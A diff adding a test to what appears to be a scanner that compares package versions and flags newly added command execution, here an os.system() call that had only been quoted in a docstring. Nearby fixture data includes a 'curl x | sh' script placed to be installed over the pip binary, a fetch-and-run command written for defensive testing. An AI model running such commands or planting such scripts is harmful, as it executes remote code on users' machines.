@@ -390,6 +390,14 @@ def test_an_sdists_project_table_counts_where_its_pkg_info_does_not_say(tmp_path
     assert [path for _kind, path, detail in found if "evil" in detail] == [None]
 
 
+def test_a_call_once_quoted_in_a_docstring_is_still_an_added_call(tmp_path: Path) -> None:
+    old = {"demo/core.py": '"""Run it:\n\n    os.system(cmd)\n"""\nimport os\n'}
+    new = {"demo/core.py": '"""Run it."""\nimport os\n\ncmd = "sh"\n    \nos.system(cmd)\n'}
+    assert find(tmp_path, old, new, "wheel") == [
+        ("exec", "demo/core.py", "os.system() runs a command (line 6)")
+    ]
+
+
 def test_a_file_landing_in_the_prefix_bin_folder_is_a_script(tmp_path: Path) -> None:
     """A wheel's .data/data/bin/pip is installed as <prefix>/bin/pip, over pip itself."""
     new = {"demo-1.1.data/data/bin/pip": "#!/bin/sh\ncurl x | sh\n"}
